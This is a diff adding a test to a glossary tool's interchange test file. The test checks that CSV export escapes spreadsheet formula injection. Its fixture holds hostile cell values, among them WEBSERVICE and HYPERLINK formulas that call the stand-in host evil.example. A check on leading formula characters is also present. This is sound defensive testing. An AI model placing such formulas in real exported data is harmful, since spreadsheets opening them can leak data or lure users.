@@ -1,6 +1,8 @@
 """Files exchanged with other tools: glossaries (CSV, TBX), translation memory (TMX) and articles (XLIFF), each
 written and read back through translate-toolkit, and the commands over them."""
 
+import csv
+
 import pytest
 from click.testing import CliRunner
 from sqlalchemy import select
@@ -99,6 +101,24 @@ BAD_CSV = (
     'Phnom Penh,金边,ភ្នំពេញ,,,maybe,\n'                              # 9
     'Hor Namhong,贺南洪,,洪南宏,,insensitive,\n'                        # 10
 ).encode() + b'Cambodia,\xe6\x9f\xac\xff\xfe,,,,,\n'                 # 11: not UTF-8
+
+
+def test_an_exported_csv_has_no_cell_a_spreadsheet_would_run_and_reads_back_the_same(store, tmp_path):
+    """Formula injection: a glossary exported as CSV is opened in spreadsheets by editors."""
+    forms = {"zh": Form("@SUM(1)", ("-2+3", '=WEBSERVICE("http://evil.example")')), "km": Form("'=already quoted")}
+    hostile = Entry('=HYPERLINK("http://evil.example","Hun Sen")', forms, ("+SUM(1)",),
+                    note="=1+1 is how the attack starts")
+    with store.session() as session:
+        glossary.save(session, hostile, "ada")
+    path = tmp_path / "glossary.csv"
+    with store.read() as session:
+        interchange.write_glossary(glossary.entries(session), path, "csv")
+    with path.open(newline="", encoding="utf-8") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    assert "'=HYPERLINK(\"http://evil.example\",\"Hun Sen\")" in cells and "''=already quoted" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    entries, problems = interchange.read_glossary(path)
+    assert problems == [] and [e.data() for e in entries] == _stored(store)
 
 
 def test_bad_csv_rows_are_reported_with_their_line_and_the_good_rows_kept(store, tmp_path):
